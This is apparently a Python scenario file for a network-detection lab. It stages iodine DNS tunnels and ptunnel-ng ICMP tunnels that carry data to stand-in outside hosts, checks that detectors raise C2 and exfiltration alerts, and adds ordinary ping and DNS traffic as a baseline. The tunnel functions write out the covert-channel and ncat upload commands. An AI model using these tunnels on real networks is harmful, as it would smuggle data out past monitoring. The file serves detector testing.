"""Data in DNS questions and in pings, by the programs made for it; and ordinary questions and pings."""

import random
import time

import servers

RESOLVER = "10.0.0.53"
# Sites outside, each with a name server of its own.
SITES = {"shop.test": "203.0.113.20", "news.test": "203.0.113.21", "bank.test": "203.0.113.22"}


def authority(lab):
    """Name servers outside for ordinary sites."""
    host = lab.outside("sites", *SITES.values())
    zones = []
    for name, address in SITES.items():
        zones.append(f'local-zone: "{name}" static\nlocal-data: "{name} 300 IN NS ns.{name}"\n')
        zones += [f'local-data: "{label}.{name} 300 IN A {address}"\n' for label in ("ns", "www", "img", "api", "cdn")]
        zones.append(f'local-data: "{name} 300 IN TXT \\"v=spf1 -all\\""\n')
    unbound(lab, host, "".join(f"interface: {a}\n" for a in SITES.values()) + "".join(zones), "")


def resolver(lab, zones):
    """A resolver at home, which asks those who know these zones."""
    host = lab.host("resolver", RESOLVER)
    stubs = "".join(f'stub-zone:\n name: "{zone}"\n stub-addr: {at}\n' for zone, at in zones.items())
    local = "".join(f'local-zone: "{zone}" nodefault\n' for zone in ("test", *zones))
    unbound(lab, host, f"interface: {RESOLVER}\n{local}", stubs)
    lab.resolvers(RESOLVER)
    return host


def unbound(lab, host, server, stubs):
    """Unbound with these lines. It asks for whole names: iodine's server answers no questions about parts of them."""
    conf = servers.write(
        lab,
        f"{host.name}-unbound.conf",
        f"""\
server:
access-control: 0.0.0.0/0 allow
username: ""
chroot: ""
pidfile: ""
use-syslog: no
qname-minimisation: no
module-config: "iterator"
do-not-query-localhost: no
{server}
{stubs}
remote-control:
control-enable: no
""",
    )
    host.start("unbound", "-d", "-c", conf)
    host.wait_for(53, kind="u")


def ask(host, *names):
    """Ordinary look-ups."""
    for name in names:
        host.run("getent", "ahostsv4", name, check=False)


def through_iodine(lab, kind, code):
    """A file goes out and another comes in through iodine, by way of the resolver at home, while others look up names."""
    lab.router()
    authority(lab)
    server = lab.outside("outside", "203.0.113.53")
    home = resolver(lab, {"tunnel.test": "203.0.113.53", **SITES})
    client = lab.host("client", "10.0.0.5")
    others = [lab.host(f"other{n}", f"10.0.0.{30 + n}") for n in range(4)]
    # It asks on behalf of its clients.
    lab.involve(home)
    server.start("iodined", "-f", "-c", "-P", "secret", "192.168.99.1", "t.tunnel.test")
    server.wait_for(53, kind="u")
    with open(lab.folder / "sink", "wb") as sink:
        server.start("ncat", "-l", 8081, stdout=sink)
    server.wait_for(8081)
    servers.nginx(lab, server)
    (lab.folder / "www/in.bin").write_bytes(random.Random(1).randbytes(100_000))
    with lab.recorded():
        for host in others:
            ask(host, *(f"{label}.{site}" for site in SITES for label in ("www", "img", "api")))
        with lab.expect(*code, of=client):
            tunnel = client.start("iodine", "-f", "-r", "-P", "secret", "-T", kind, RESOLVER, "t.tunnel.test")
            deadline = time.monotonic() + 40
            while "192.168.99." not in client.run("ip", "-4", "addr", "show") and time.monotonic() < deadline:
                time.sleep(0.2)
            client.run("curl", "-s", "-m", 20, "-o", "/dev/null", "http://192.168.99.1/in.bin")
            client.run("ncat", "--send-only", "192.168.99.1", 8081, input=random.Random(2).randbytes(20_000).hex())
            time.sleep(1)
        tunnel.terminate()


def iodine(lab):
    """iodine with NULL records, as it likes best."""
    through_iodine(lab, "NULL", ["c2-dns-tunnel/fast", "c2-dns-tunnel/odd-type"])


def iodine_txt(lab):
    """iodine with TXT records."""
    through_iodine(lab, "TXT", ["c2-dns-tunnel/fast", "c2-dns-tunnel/odd-type", "c2-dns-tunnel/downstream"])


def ptunnel(lab):
    """ptunnel-ng carries a web page and an upload out of the network in pings."""
    lab.router()
    outside, client = lab.outside("outside", "203.0.113.9"), lab.host("client", "10.0.0.5")
    servers.nginx(lab, outside)
    (lab.folder / "www/in.bin").write_bytes(random.Random(1).randbytes(100_000))
    outside.run("sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=1")
    outside.start("ptunnel-ng", "-r127.0.0.1", "-R80")
    client.start("ptunnel-ng", "-p203.0.113.9", "-l8000", "-r127.0.0.1", "-R80")
    client.wait_for(8000)
    with lab.recorded(), lab.expect("exfil-icmp-tunnel/echo", of=client):
        # One connection: its server takes no second one.
        urls = [f"http://127.0.0.1:8000/{path}" for path in ("index.html", "in.bin", "index.html")]
        client.run("curl", "-s", "-m", 30, *(w for url in urls for w in ("-o", "/dev/null", url)))


def ordinary(lab):
    """Pings of the usual and of the largest size, a search for the path's MTU, and names looked up through Unbound."""
    lab.router()
    authority(lab)
    outside = lab.outside("outside", "203.0.113.9")
    resolver(lab, SITES)
    people = [lab.host(f"host{n}", f"10.0.0.{30 + n}") for n in range(4)]
    with lab.recorded():
        for host in people:
            ask(host, *(f"{label}.{site}" for site in SITES for label in ("www", "img", "api", "cdn", "none")))
        people[0].run("ping", "-q", "-s", 1400, "-i", "0.1", "-c", 100, outside.address)
        people[1].run("ping", "-q", "-i", "0.2", "-c", 30, outside.address)
        for size in (500, 1000, 1200, 1300, 1400, 1450, 1472):
            people[2].run("ping", "-q", "-M", "do", "-s", size, "-c", 1, outside.address)
